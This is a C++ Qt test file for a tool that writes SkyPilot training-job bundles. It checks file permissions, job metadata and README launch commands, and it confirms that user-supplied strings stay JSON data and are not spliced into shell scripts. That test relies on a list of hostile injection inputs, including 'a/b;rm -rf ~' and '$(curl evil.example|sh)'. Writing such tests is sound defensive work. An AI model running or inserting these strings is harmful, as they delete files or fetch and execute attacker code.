#include "catalog/Catalog.h"
#include "sky/LaunchPlan.h"
#include "sky/RunBundle.h"
#include "sky/TaskBuilder.h"

#include "TestSupport.h"

#include <QDir>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

#include <yaml-cpp/yaml.h>

using namespace vibeml;
using namespace vibeml::sky;

namespace {

const catalog::Catalog &bundled()
{
    static const catalog::Catalog catalog = catalog::Catalog::load(test::isolatedRoot() + QStringLiteral("/no-sky"));
    return catalog;
}

LaunchPlan loadPlan(const QString &name)
{
    const QByteArray json = test::readFile(test::dataPath(QStringLiteral("tasks/%1/plan.json").arg(name)));
    return launchPlanFromJson(QJsonDocument::fromJson(json).object()).value();
}

int g_counter = 0;
QString freshRoot()
{
    return test::isolatedRoot() + QStringLiteral("/bundles-%1").arg(++g_counter);
}

const QStringList kHostile = {
    QStringLiteral("a/b;rm -rf ~"),
    QStringLiteral("$(curl evil.example|sh)"),
    QStringLiteral("`id`"),
    QStringLiteral("it's \"quoted\""),
    QStringLiteral("line\nbreak"),
    QStringLiteral("ünïcödé/модель"),
    QStringLiteral("{{ jinja }} ${HOME} %s %n"),
};

} // namespace

class TestRunBundle : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void writesEveryFilePrivately()
    {
        const QString root = freshRoot();
        const LaunchPlan plan = loadPlan(QStringLiteral("multi-gpu-full"));
        const auto bundle = RunBundle::write(root, plan, bundled());
        QVERIFY2(bundle, qPrintable(bundle.isOk() ? QString() : bundle.error()));
        const QString dir = bundle.value().directory;
        QCOMPARE(dir, root + QLatin1Char('/') + plan.jobId);
        const QStringList files = QDir(dir).entryList(QDir::Files, QDir::Name);
        QCOMPARE(files, QStringList({QStringLiteral("README.md"), QStringLiteral("job.json"), QStringLiteral("plan.json"),
                                     QStringLiteral("requirements.txt"), QStringLiteral("run.sh"), QStringLiteral("task.yaml"),
                                     QStringLiteral("train.py")}));
        QCOMPARE(QFileInfo(dir).permissions() & (QFileDevice::ReadOther | QFileDevice::ReadGroup | QFileDevice::ExeOther), QFileDevice::Permissions());
        for (const QString &file : files)
            QCOMPARE(QFileInfo(dir + QLatin1Char('/') + file).permissions() & (QFileDevice::ReadOther | QFileDevice::ReadGroup),
                     QFileDevice::Permissions());
        // The training files are the ones compiled in.
        QVERIFY(test::readFile(dir + QStringLiteral("/train.py")).contains("@@VIBEML@@"));

        const QJsonObject job = QJsonDocument::fromJson(test::readFile(bundle.value().jobFile)).object();
        QCOMPARE(job.value(QStringLiteral("schema")).toInt(), 1);
        QCOMPARE(job.value(QStringLiteral("method")).toString(), QStringLiteral("full"));
        QCOMPARE(job.value(QStringLiteral("parallelism")).toString(), QStringLiteral("fsdp"));
        QCOMPARE(job.value(QStringLiteral("maxRuntimeSeconds")).toDouble(), 6.0 * 3600);
        QCOMPARE(job.value(QStringLiteral("model")).toObject().value(QStringLiteral("revision")).toString(), plan.modelRevision);
        QCOMPARE(job.value(QStringLiteral("dataset")).toObject().value(QStringLiteral("columns")).toObject().value(QStringLiteral("prompt")).toString(),
                 QStringLiteral("question"));
        QCOMPARE(job.value(QStringLiteral("output")).toObject().value(QStringLiteral("hubRepo")).toString(), plan.outputRepo);

        const auto reread = RunBundle::readPlan(dir);
        QVERIFY(reread);
        QCOMPARE(toJson(reread.value()), toJson(plan));

        const QString readme = QString::fromUtf8(test::readFile(dir + QStringLiteral("/README.md")));
        QVERIFY(readme.contains(QStringLiteral("sky launch -y -d -c %1 -i 15 --secret HF_TOKEN task.yaml").arg(plan.jobId)));
        QVERIFY(readme.contains(QStringLiteral("sky down -y %1").arg(plan.jobId)));
        QVERIFY(!readme.contains(QStringLiteral("--down")));

        // Never overwritten.
        QVERIFY(!RunBundle::write(root, plan, bundled()).isOk());
    }

    void managedJobReadme()
    {
        const LaunchPlan plan = loadPlan(QStringLiteral("spot-managed-job"));
        const auto bundle = RunBundle::write(freshRoot(), plan, bundled());
        QVERIFY(bundle);
        const QString readme = QString::fromUtf8(test::readFile(bundle.value().directory + QStringLiteral("/README.md")));
        QVERIFY(readme.contains(QStringLiteral("sky jobs launch -y -d -n %1 --secret HF_TOKEN task.yaml").arg(plan.jobId)));
    }

    void refusesBrokenRules()
    {
        LaunchPlan plan = loadPlan(QStringLiteral("single-gpu-lora"));
        plan.spot = true; // Nebius sells no spot L40S
        const auto refused = RunBundle::write(freshRoot(), plan, bundled());
        QVERIFY(!refused.isOk());
        QVERIFY2(refused.error().contains(QStringLiteral("spot")), qPrintable(refused.error()));
        plan = loadPlan(QStringLiteral("single-gpu-lora"));
        plan.jobId = QStringLiteral("Bad Name!");
        QVERIFY(!RunBundle::write(freshRoot(), plan, bundled()).isOk());
    }

    // User strings reach the cluster only inside job.json (as JSON data) and never in the
    // shell code SkyPilot runs.
    void hostileStringsStayData_data()
    {
        QTest::addColumn<QString>("hostile");
        for (const QString &value : kHostile)
            QTest::newRow(qPrintable(value.left(12).simplified())) << value;
    }

    void hostileStringsStayData()
    {
        QFETCH(QString, hostile);
        LaunchPlan plan = loadPlan(QStringLiteral("two-node-8gpu"));
        plan.modelId = hostile;
        plan.datasetId = hostile;
        plan.datasetConfig = hostile;
        plan.datasetSplit = hostile;
        plan.mapping.messages = hostile;
        plan.outputRepo = hostile;
        const auto bundle = RunBundle::write(freshRoot(), plan, bundled());
        QVERIFY2(bundle, qPrintable(bundle.isOk() ? QString() : bundle.error()));

        const QByteArray yaml = test::readFile(bundle.value().taskFile);
        const YAML::Node task = YAML::Load(yaml.toStdString());
        const QString setup = QString::fromStdString(task["setup"].as<std::string>());
        const QString run = QString::fromStdString(task["run"].as<std::string>());
        const TaskSpec expected = buildTask(plan);
        QCOMPARE(setup, expected.setup); // fixed text, identical for every plan
        QCOMPARE(run, expected.run);
        QVERIFY(!yaml.contains(hostile.toUtf8()));
        for (const auto &env : task["envs"])
            QVERIFY(QString::fromStdString(env.second.as<std::string>()) != hostile);

        const QByteArray runScript = test::readFile(bundle.value().directory + QStringLiteral("/run.sh"));
        QVERIFY(!runScript.contains(hostile.toUtf8()));

        const QJsonObject job = QJsonDocument::fromJson(test::readFile(bundle.value().jobFile)).object();
        QCOMPARE(job.value(QStringLiteral("model")).toObject().value(QStringLiteral("id")).toString(), hostile);
        QCOMPARE(job.value(QStringLiteral("dataset")).toObject().value(QStringLiteral("columns")).toObject().value(QStringLiteral("messages")).toString(),
                 hostile);
        QCOMPARE(job.value(QStringLiteral("output")).toObject().value(QStringLiteral("hubRepo")).toString(), hostile);
    }
};

VIBEML_TEST_MAIN_CORE(TestRunBundle)
#include "tst_runbundle.moc"
